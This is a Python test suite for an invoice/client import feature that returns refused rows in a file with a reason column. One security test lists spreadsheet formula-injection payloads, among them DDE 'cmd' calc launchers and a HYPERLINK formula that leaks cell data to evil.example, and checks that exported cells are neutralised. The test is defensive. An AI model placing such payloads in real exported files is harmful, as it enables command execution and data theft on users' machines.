"""Good rows taken, bad ones handed back: a file of the same kind and columns with a reason, which comes in once mended."""

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from data.billing.invoices import Invoice
from data.people.tables import Entity
from services.imports import rejects
from services.imports import run as runs
from services.imports.declared import INVOICES
from services.imports.reading import csv_table
from services.imports.reading.table import Table
from services.imports.rows import errors as refusals
from services.platform.i18n import Wording
from services.platform.importing.outcomes import File, Options, Outcome, Problem, Result
from tests.services.imported import counts, results, run
from tests.services.imports.test_command import command
from tests.services.imports.test_tables import workbook

GOOD = Options(take_good=True)
LINES = (
    "number;client;issued_on;description;quantity;unit_price;tax_rate\n"
    "A-1;Acme Ltd;2030-01-01;Work;1;100,00;24\nA-2;Acme Ltd;2030-01-02;Work;1;50,00;24\n"
    "A-2;Acme Ltd;2030-01-02;More;zwei;10,00;24\nA-3;Nobody at all;2030-01-03;Work;1;1,00;0\n"
)


def numbers(house) -> list[str]:
    with house.backstage() as db:
        return sorted(db.scalars(select(Invoice.number)))


def test_it_is_a_choice_and_off_by_default(sqlite_house):
    report = run(sqlite_house.olga, "invoices", LINES)
    assert set(results(report)) == {"refused"}
    assert counts(sqlite_house, Invoice) == [0]
    assert report.handed_back is not None
    assert report.handed_back.rows == 3  # the good row is not among them


def test_a_bad_line_holds_back_its_document_and_the_mended_file_comes_in_once(house):
    report = run(house.olga, "invoices", LINES, GOOD)
    assert results(report) == ["created", "refused", "refused"]
    assert numbers(house) == ["A-1"]
    back = report.handed_back
    assert back is not None
    assert back.name == "file-refused.csv"
    text = back.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == [*LINES.splitlines()[0].split(";"), "Why it was refused"]
    assert [row[:-1] for row in rows[1:]] == [line.split(";") for line in LINES.splitlines()[2:]]
    assert rows[1][-1] == "Another row of the same document was refused."
    assert "“zwei” is not a number." in rows[2][-1]
    assert "no client “Nobody at all”" in rows[3][-1]
    mended = File(back.name, text.replace("zwei", "2").replace("Nobody at all", "Acme Ltd").encode("utf-8-sig"))
    again = runs.run(house.olga, INVOICES, [mended])
    assert (results(again), again.handed_back) == (["created", "created"], None)
    assert not any("Why it was refused" in str(each) for each in again.remarks)
    assert numbers(house) == ["A-1", "A-2", "A-3"]
    whole = LINES.replace("zwei", "2").replace("Nobody at all", "Acme Ltd")
    assert set(results(run(house.olga, "invoices", whole))) == {"unchanged"}


def test_a_file_handed_back_twice_has_one_reason_column(sqlite_house):
    first = run(sqlite_house.olga, "invoices", LINES, GOOD).handed_back
    assert first is not None
    second = runs.run(sqlite_house.olga, INVOICES, [File(first.name, first.content)], None, GOOD).handed_back
    assert second is not None
    assert second.content.decode("utf-8-sig").splitlines()[0] == first.content.decode("utf-8-sig").splitlines()[0]


def test_a_workbook_comes_back_as_a_workbook_with_its_kinds_of_cells(sqlite_house):
    made = workbook(
        ["external_id", "number", "client", "issued_on", "net", "tax"],
        ["=1+1", "A-1", "Nobody at all", date(2030, 1, 1), 100.5, 0],
        ["X2", "A-2", "Acme Ltd", date(2030, 1, 1), 1, 0],
    )
    book = openpyxl.load_workbook(io.BytesIO(made))
    book.active["A2"].value, book.active["A2"].data_type = "=1+1", "s"
    book.save(out := io.BytesIO())
    report = runs.run(sqlite_house.olga, INVOICES, [File("books.xlsx", out.getvalue())], None, GOOD)
    assert results(report) == ["refused", "created"]
    back = report.handed_back
    assert back is not None
    assert back.name == "books-refused.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(back.content)).active
    row = [cell.value for cell in sheet[2]]
    assert (row[0], row[3].date(), row[4]) == ("=1+1", date(2030, 1, 1), 100.5)
    assert sheet["A2"].data_type == "s"
    assert "no client" in row[6]


def test_the_command_line_takes_good_rows_and_writes_the_others(sqlite_house, tmp_path: Path, capsys):
    path, rejects = tmp_path / "clients.csv", tmp_path / "back.csv"
    path.write_text("Code,Name\nC1,Alpha\nC2,\n")
    before = counts(sqlite_house, Entity)
    assert command(sqlite_house, "clients", str(path), "--rejects", str(rejects)) == 1
    assert counts(sqlite_house, Entity) == before
    assert command(sqlite_house, "clients", str(path), "--take-good", "--rejects", str(rejects)) == 1
    assert counts(sqlite_house, Entity) == [before[0] + 1]
    assert "1 refused rows are in" in capsys.readouterr().err
    assert rejects.read_text("utf-8-sig").splitlines() == [
        "Code,Name,Why it was refused",
        "C2,,Name: This is required.",
    ]


@pytest.mark.security("R70")
@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1-1+cmd",
        "-A1",
        "+A1",
        '=HYPERLINK("https://evil.example?"&A1)',
        "-",
        "+",
        "@x",
    ],
)
@pytest.mark.parametrize("shape", ["{}", "'{}"])
def test_what_is_handed_back_runs_in_no_spreadsheet(text: str, shape: str) -> None:
    """A guarded cell is read without its guard: handed back without, it would be a formula that it was not before."""
    bare = shape.format(text)
    given = '"' + bare.replace('"', '""') + '"'
    table = csv_table.read_csv(f"{given},Name\n{given},x\n".encode())
    assert isinstance(table, Table)
    assert (table.headers[0], table.rows[0].cells[0]) == (" ".join(text.split()), text)
    refused = Outcome("a.csv", Result.REFUSED, "x", 2, problems=(Problem(refusals.Blank(), 2, table.headers[0]),))
    back = rejects.handed_back("a.csv", table, [refused], Wording("en"))
    assert back is not None
    for line in csv.reader(io.StringIO(back.content.decode("utf-8-sig"))):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
    again = csv_table.read_csv(back.content)
    assert isinstance(again, Table)
    assert (again.headers[:2], again.rows[0].cells[:2]) == (table.headers, table.rows[0].cells)


@pytest.mark.parametrize("text", ["-5.00", "+30 210 7654321", "-1.234,56", "12", "", "a=b", "O'Neil"])
def test_numbers_and_names_stay_as_they_are(text: str) -> None:
    assert rejects.guarded(text) == text
